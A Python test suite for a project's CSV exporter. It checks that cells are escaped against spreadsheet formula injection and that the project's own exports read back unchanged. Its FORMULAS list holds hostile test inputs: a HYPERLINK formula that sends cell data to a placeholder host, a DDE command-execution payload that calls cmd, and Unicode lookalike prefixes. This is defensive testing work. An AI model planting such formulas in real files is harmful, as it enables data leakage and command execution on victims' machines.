"""No cell of an exported CSV is a formula or hides anything, and submitting our own export gives the texts back."""

from __future__ import annotations

import csv
from collections.abc import Mapping
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from orchestrator.app.looking import EXPORT, RECORD
from orchestrator.records.cells import OWN_COLUMNS, as_it_was, harmless
from orchestrator.records.read import open_records
from orchestrator.records.record import Good, RecordSpec
from orchestrator.records.write import write_rows
from orchestrator.unseen import unseen

FORMULAS = [
    *('=HYPERLINK("http://example.invalid?"&A1)', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1:A9)"),
    *("\t=1", "\r=1", "\n=1", " =1", "\u200b=1", "＝1", "﹦1", "＋1", "－1", "＠A1", "−1", "'=1", "''=1", "'\t=1"),
]
PLAIN = [
    "a=1",
    "'quoted'",
    "",
    "\\u200b",
    "\\u005c=1",
    "C:\\users\\u0041",
    "naïve ❤\ufe0f",
    "two\nlines",
    "a\x1b[2Jb",
    "\U000e0041",
]
TEXTS = st.text(alphabet="=+-@'\t\r\n \\u005c2b00\u200b＝\U000e0041ab", max_size=12) | st.text()


def row(text: str) -> Mapping[str, object]:
    own = {column.name: text for column in EXPORT if column.kind == "text"}
    return {**own, "key": "k", "revision": 1, RECORD.name: {"text": text}}


def written(folder: Path, text: str) -> dict[str, str]:
    """The cells of one exported row."""
    path = folder / "out.csv"
    write_rows(path, [row(text)], [*EXPORT, RECORD], force=True)
    with path.open(newline="", encoding="utf-8") as stream:
        return next(csv.DictReader(stream))


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_is_no_formula_any_more(tmp_path: Path, text: str) -> None:
    cell = written(tmp_path, text)["analysis"]

    assert cell.startswith("'")
    assert unseen(cell) is None


@pytest.mark.parametrize("text", [*FORMULAS, *PLAIN])
def test_own_export_gives_texts_back(tmp_path: Path, text: str) -> None:
    write_rows(tmp_path / "out.csv", [row(text)], [*EXPORT, RECORD])

    (record,) = open_records(tmp_path / "out.csv", RecordSpec(key="key"))

    assert isinstance(record, Good)
    assert record.payload.get("analysis", "") == (text if text.strip() else "")


def test_record_column_keeps_its_json(tmp_path: Path) -> None:
    write_rows(tmp_path / "out.csv", [row("a\x1b\\u200b")], [*EXPORT, RECORD])

    (record,) = open_records(tmp_path / "out.csv", RecordSpec(key="key"))

    assert isinstance(record, Good)
    assert record.payload["record"] == '{"text":"a\\u001b\\\\u200b"}'


def test_exports_begin_as_the_reader_expects() -> None:
    assert [column.name for column in EXPORT][: len(OWN_COLUMNS)] == OWN_COLUMNS


@pytest.mark.parametrize("text", ["'=1", "\\u200b", "\\u005c"])
def test_other_files_are_taken_as_they_stand(tmp_path: Path, text: str) -> None:
    path = tmp_path / "theirs.csv"
    path.write_text(f"key,text\n1,{text}\n", encoding="utf-8")

    (record,) = open_records(path, RecordSpec(key="key"))

    assert isinstance(record, Good)
    assert record.payload["text"] == text


@given(TEXTS)
def test_every_text_comes_back(text: str) -> None:
    cell = harmless(text)

    assert as_it_was(cell) == text
    assert unseen(cell) is None
    assert not cell.lstrip(" \n\t").startswith(("=", "+", "-", "@"))
